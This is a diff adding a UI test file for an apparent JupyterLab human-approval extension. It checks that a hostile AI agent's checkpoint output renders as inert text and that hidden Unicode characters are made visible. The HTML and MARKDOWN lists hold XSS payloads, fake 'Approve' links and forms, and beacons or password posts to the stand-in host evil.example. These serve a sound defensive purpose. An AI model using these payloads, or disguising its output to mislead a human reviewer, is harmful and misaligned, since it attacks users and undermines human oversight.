@@ -1,0 +1,167 @@
+"""What a hostile agent writes stays text: nothing runs, nothing is loaded, and what is hidden is shown."""
+
+from __future__ import annotations
+
+from collections.abc import Iterator
+from typing import Any
+from urllib.parse import urlsplit
+
+import pytest
+from lab import Lab, Notebook, Page, shot
+from story import card
+
+pytestmark = [pytest.mark.ui, pytest.mark.slow]
+
+HTML = [
+    "<script>alert(1)</script>",
+    "<img src=x onerror=alert(1)>",
+    "<svg/onload=alert(1)>",
+    "<svg><script>alert(1)</script></svg>",
+    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
+    "<details open ontoggle=alert(1)>x</details>",
+    "<body onload=alert(1)>",
+    "<iframe src='javascript:alert(1)'></iframe>",
+    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
+    "<object data='https://evil.example/x'></object>",
+    "<embed src='https://evil.example/x'>",
+    "<form action='https://evil.example/'><input name=password><button>Approve</button></form>",
+    "<a href='javascript:alert(1)'>Approve</a>",
+    "<style>*{display:none!important}body{background:url(https://evil.example/css)}</style>",
+    "<link rel=stylesheet href=https://evil.example/a.css>",
+    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
+    "<base href=https://evil.example/>",
+    "<img src=https://evil.example/beacon.png>",
+    "<video src=https://evil.example/v.mp4 autoplay onerror=alert(1)></video>",
+    "<div style='position:fixed;inset:0;background:url(https://evil.example/d)'>over everything</div>",
+    "<dialog open>Approve?</dialog>",
+    "</pre></div></article><script>alert(1)</script>",
+]
+MARKDOWN = [
+    "[Approve](javascript:alert(1))",
+    "[Approve](JaVaScRiPt:alert(1))",
+    "[Approve](&#106;avascript:alert(1))",
+    "[Approve](java\tscript:alert(1))",
+    "[Approve](vbscript:msgbox(1))",
+    "[Approve](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
+    "[Approve](//evil.example/x)",
+    "[Approve](/hub/logout)",
+    "[Approve](blob:https://evil.example/x)",
+    "![beacon](https://evil.example/beacon.png)",
+    "![beacon](data:image/svg+xml,<svg onload=alert(1)>)",
+    "![beacon][there]\n\n[there]: https://evil.example/ref.png",
+    '<javascript:alert(1)>\n\n[x](https://evil.example/ "onmouseover=alert(1)")',
+    "| a |\n|---|\n| <script>alert(1)</script> ![](https://evil.example/cell.png) |",
+    "```html\n<script>alert(1)</script>\n```",
+]
+HIDDEN = {
+    "\u202e": "⟨U+202E⟩",
+    "\u2066": "⟨U+2066⟩",
+    "\u200b": "⟨U+200B⟩",
+    "\u200d": "⟨U+200D⟩",
+    "\ufeff": "⟨U+FEFF⟩",
+    "\u00ad": "⟨U+00AD⟩",
+    "\u2028": "⟨U+2028⟩",
+    "\x1b": "⟨U+001B⟩",
+    "\U000e0041": "⟨U+E0041⟩",
+}
+FORBIDDEN = (
+    "script, iframe, frame, object, embed, applet, form:not(.jp-hitl-comments form), img, picture, video, audio, "
+    "source, link, meta, base, style, dialog, svg, math, template, portal, "
+    "a[href]:not([href^='https://']):not([href^='mailto:'])"
+)
+HANDLERS = """card => [...card.querySelectorAll('*')].flatMap(node => [...node.attributes]
+  .filter(one => /^on/i.test(one.name) || /javascript:|evil\\.example/i.test(one.value) && one.name !== 'title'
+    && !(node.tagName === 'A' && one.name === 'href') && one.name !== 'value')
+  .map(one => `${node.tagName} ${one.name}=${one.value}`))"""
+
+LOAD = f"""%load_ext hitl_nb
+import hitl_nb as hitl
+import pandas as pd
+from pydantic import BaseModel
+HTML = {HTML!r}
+MARKDOWN = {MARKDOWN!r}
+HIDDEN = {list(HIDDEN)!r}
+ALL = HTML + MARKDOWN
+"""
+AGENTS = {
+    "text": "hitl.checkpoint('\\n'.join(ALL), title='text ' + ' '.join(HTML[:5])[:150], context='\\n\\n'.join(ALL))",
+    "markdown": "hitl.checkpoint('# markdown\\n\\n' + '\\n\\n'.join(ALL), kind='markdown', title='markdown',\n"
+    "    context={html: attack for html, attack in zip(HTML, reversed(ALL))})",
+    "code": "hitl.checkpoint('\\n'.join(ALL), kind='code', title='code')",
+    "table": "hitl.checkpoint(pd.DataFrame({'a': ALL, HTML[0]: ALL, HTML[1]: range(len(ALL))}), title='table')",
+    "json": "hitl.checkpoint({attack: attack for attack in ALL}, title='json')",
+    "choice": "hitl.checkpoint(ALL[0], options=ALL, title='choice')",
+    "plan": "hitl.checkpoint(ALL, title='plan')",
+}
+
+
+@pytest.fixture(scope="module")
+def lab(browser: Any, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Lab]:
+    server = Lab(tmp_path_factory.mktemp("notebooks"), tmp_path_factory.mktemp("state"), extension=True)
+    yield server
+    server.close()
+
+
+@pytest.fixture(scope="module")
+def watched(page: Page) -> list[str]:
+    """What must not happen, as far as it happened: dialogs, requests to elsewhere, windows that open."""
+    seen: list[str] = []
+    window = page.page
+
+    def asked(dialog: Any) -> None:
+        seen.append(f"dialog {dialog.message}")
+        dialog.dismiss()
+
+    def requested(request: Any) -> None:
+        there = urlsplit(request.url)
+        if there.scheme not in ("data", "blob") and there.hostname != "127.0.0.1":
+            seen.append(f"request {request.url}")
+
+    window.on("dialog", asked)
+    window.context.on("request", requested)
+    window.context.on("page", lambda opened: seen.append(f"window {opened.url}"))
+    return seen
+
+
+def proposed(page: Page, name: str, agent: str) -> Notebook:
+    nb = page.open(f"{name}.ipynb", LOAD, f"%%agent {name}\n{agent}")
+    nb.run_all()
+    card(nb).wait_for()
+    nb.until_kernel()
+    return nb
+
+
+def harmless(where: Any) -> None:
+    """Nothing in there is an element or an attribute that could do something."""
+    assert where.locator(FORBIDDEN).evaluate_all("all => all.map(one => one.outerHTML.slice(0, 200))") == []
+    assert where.evaluate(HANDLERS) == []
+
+
+@pytest.mark.parametrize("kind", AGENTS)
+def test_an_attack_stays_text(page: Page, watched: list[str], kind: str) -> None:
+    nb = proposed(page, f"attack_{kind}", AGENTS[kind])
+    shown = card(nb)
+    harmless(shown)
+    shot(shown, f"hostile-{kind}")
+    nb.close()
+    assert watched == []
+
+
+HIDERS = {
+    "context": "hitl.checkpoint('text', title='t', context='context ' + STRING)",
+    "json": "hitl.checkpoint({'field ' + STRING: 'value ' + STRING}, title='t', context={'k' + STRING: 'v' + STRING})",
+    "table": "hitl.checkpoint(pd.DataFrame({'column ' + STRING: ['cell ' + STRING]}), title='t')",
+    "choice": "hitl.checkpoint('a' + STRING, options=['a' + STRING, 'b'], title='c')",
+}
+
+
+@pytest.mark.parametrize("kind", HIDERS)
+def test_hidden_characters_are_shown(page: Page, watched: list[str], kind: str) -> None:
+    nb = proposed(page, f"hidden_{kind}", "STRING = 'x'.join(HIDDEN)\n" + HIDERS[kind])
+    shown = card(nb)
+    shot(shown, f"hidden-{kind}")
+    text = shown.evaluate("card => card.innerText")
+    missing = [spelled for spelled in HIDDEN.values() if spelled not in text]
+    nb.close()
+    assert missing == []
+    assert watched == []
